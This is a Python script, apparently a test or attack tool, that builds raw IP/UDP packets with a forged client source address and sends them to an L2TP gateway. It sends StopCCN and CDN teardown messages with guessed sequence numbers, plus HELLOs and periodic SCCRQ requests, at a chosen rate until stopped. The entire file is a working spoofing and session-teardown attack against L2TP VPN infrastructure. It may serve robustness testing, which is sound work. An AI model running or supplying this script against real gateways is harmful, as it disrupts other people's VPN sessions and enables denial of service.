# SPDX-License-Identifier: GPL-2.0-or-later
"""Sends L2TP control messages from a client's address and port, until SIGTERM.

usage: forged_l2tp.py TARGET SOURCE PORT TUNNEL SESSION PER_SECOND

TUNNEL, SESSION: the ids that the gateway assigned, as a header has them. The ids that the client
assigned it does not know: no message has them. In turn StopCCN and CDN, without an id and with the
gateway's own, HELLO and acknowledgements, with Ns and Nr at random, mostly among small ones; each
SCCRQ_EVERY messages an SCCRQ, always of the same dial. Prints how many were sent, as JSON.
"""
from __future__ import annotations

import ipaddress
import itertools
import json
import random
import signal
import socket
import struct
import sys
import time
from collections.abc import Iterator

L2TP_PORT, TTL = 1701, 64
HEADER = struct.Struct("!HHHHHH")
# With length and sequence fields, version 2.
CONTROL = 0xC802
MESSAGE, RESULT, VERSION, HOST, FRAMING, TUNNEL_ID, WINDOW, SESSION_ID = 0, 1, 2, 7, 3, 9, 10, 14
SCCRQ, STOPCCN, HELLO, CDN = 1, 4, 6, 14
DIALLED = 4711
# Control messages of a session of some minutes have numbers below.
SMALL, SMALL_SHARE = 24, 0.75
SCCRQ_EVERY = 20


def avp(kind: int, value: bytes) -> bytes:
    return struct.pack("!HHH", 0x8000 | (6 + len(value)), 0, kind) + value


def u16(kind: int, value: int) -> bytes:
    return avp(kind, struct.pack("!H", value))


def bodies(tunnel: int, session: int) -> Iterator[tuple[int, bytes]]:
    """The session id of the header and what follows it, without end (RFC 2661 6)."""
    ends = [(0, u16(MESSAGE, STOPCCN) + u16(RESULT, 1)),
            (0, u16(MESSAGE, STOPCCN) + u16(TUNNEL_ID, tunnel) + u16(RESULT, 6)),
            (session, u16(MESSAGE, CDN) + u16(RESULT, 3)),
            (session, u16(MESSAGE, CDN) + u16(RESULT, 3) + u16(SESSION_ID, session)),
            (0, u16(MESSAGE, CDN) + u16(RESULT, 1) + u16(SESSION_ID, 0)),
            (0, u16(MESSAGE, HELLO)), (0, b""), (0, b"")]
    return itertools.cycle(ends)


def sccrq() -> bytes:
    body = (u16(MESSAGE, SCCRQ) + avp(VERSION, b"\1\0") + avp(HOST, b"forger") +
            avp(FRAMING, struct.pack("!I", 3)) + u16(TUNNEL_ID, DIALLED) + u16(WINDOW, 4))
    return HEADER.pack(CONTROL, HEADER.size + len(body), 0, 0, 0, 0) + body


def number() -> int:
    return random.randrange(SMALL if random.random() < SMALL_SHARE else 65536)


def messages(tunnel: int, session: int) -> Iterator[bytes]:
    for count, (to, body) in enumerate(bodies(tunnel, session)):
        if count % SCCRQ_EVERY == 0:
            yield sccrq()
        yield HEADER.pack(CONTROL, HEADER.size + len(body), tunnel, to, number(), number()) + body


def packet(source: str, target: str, port: int, payload: bytes) -> bytes:
    """The kernel fills in the checksum of the header; UDP without a checksum."""
    ends = (ipaddress.IPv4Address(each).packed for each in (source, target))
    return (struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, TTL,
                        socket.IPPROTO_UDP, 0, *ends) +
            struct.pack("!HHHH", port, L2TP_PORT, 8 + len(payload), 0) + payload)


def main() -> None:
    target, source, port, tunnel, session, per_second = sys.argv[1:]
    sent, begun = 0, time.monotonic()

    def report(*_: object) -> None:
        print(json.dumps({"packets": sent, "seconds": round(time.monotonic() - begun, 3)}))
        sys.exit(0)
    signal.signal(signal.SIGTERM, report)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for message in messages(int(tunnel), int(session)):
            try:
                raw.sendto(packet(source, target, int(port), message), (target, 0))
                sent += 1
            except OSError:
                pass  # Nobody has the target's address: a takeover.
            time.sleep(max(begun + sent / float(per_second) - time.monotonic(), 0))


if __name__ == "__main__":
    main()
